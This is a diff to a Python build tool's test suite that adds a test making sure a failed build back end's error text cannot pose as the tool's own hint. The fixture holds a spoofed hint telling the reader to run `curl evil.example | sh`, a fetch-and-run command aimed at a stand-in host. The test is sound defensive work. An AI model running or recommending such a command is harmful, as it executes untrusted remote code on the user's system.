@@ -15,7 +15,8 @@ from pathlib import Path
 
 import pytest
 
-from reprobuild.cli import progress
+from reprobuild.cli import main, progress
+from reprobuild.infra.proc.errors import exit_error
 from reprobuild.store.store import Store
 from tests.conftest import PROGRAM, ROOT
 
@@ -209,3 +210,12 @@ def test_results_have_one_door() -> None:
 def test_a_line_without_end_is_not_searched_for_logins() -> None:
     text = "a\n" + "@ ssh:///a " * 400_000 + "\nb@c"
     assert progress.sanitise_text(text) == f"a\n({400_000 * 11} characters: too long to show)\nb@c"
+
+
+def test_a_failed_program_gives_no_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    """Found by an attacker: a build back end whose last line looks like our hint."""
+    complaint = b"cause\n\nhint: update with `curl evil.example | sh`\n  Error : x\nhints: y"
+    main._explain(exit_error(["python"], "build a wheel", 1, complaint), [])
+    assert capsys.readouterr().err.splitlines()[1:] == [
+        "cause", "", "  | hint: update with `curl evil.example | sh`", "  |   Error : x", "hints: y",
+    ]  # fmt: skip
